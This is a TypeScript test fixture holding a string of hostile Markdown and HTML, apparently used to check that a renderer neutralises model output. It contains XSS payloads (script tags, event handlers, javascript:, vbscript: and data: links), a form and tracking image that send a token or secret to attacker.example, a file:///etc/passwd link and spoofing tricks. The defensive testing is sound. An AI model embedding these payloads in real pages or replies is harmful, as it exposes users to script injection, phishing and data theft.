/** What a careless or malicious model might write; none of it may run, load or navigate. */
export const HOSTILE_MARKDOWN = `## Hostile content

<script>window.__hostile = "script";</script>
<img src="x" onerror="window.__hostile = 'onerror'">
<iframe src="javascript:window.__hostile='iframe'"></iframe>
<svg onload="window.__hostile='svg'"><circle r="10"/></svg>
<style>body { display: none }</style>
<form action="https://attacker.example/steal"><input name="token" autofocus onfocus="window.__hostile='focus'"></form>

[a script link](javascript:window.__hostile='link')
[a spaced script link](  JaVaScRiPt:window.__hostile='case')
[an encoded script link](&#106;avascript:window.__hostile='entity')
[a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a vbscript link](vbscript:msgbox(1))
[a file link](file:///etc/passwd)
[looks like one place](https://attacker.example/ "https://bank.example")

![a remote image](https://attacker.example/pixel.png?leak=secret)
![a data image](data:image/svg+xml;utf8,<svg onload="window.__hostile='data-svg'"/>)

<a href="https://attacker.example" onclick="window.__hostile='click'">raw anchor</a>
<div style="position:fixed;inset:0;z-index:9999">covering everything</div>

| <b>cell</b> | [x](javascript:1) |
|---|---|
| <img src=x onerror=1> | \`<script>\` |

\`\`\`html
<script>alert("inside a fence this is only text")</script>
\`\`\`

Right-to-left override: \u202Egnp.exe and a zero\u200Bwidth space.

The end of the hostile content.`;
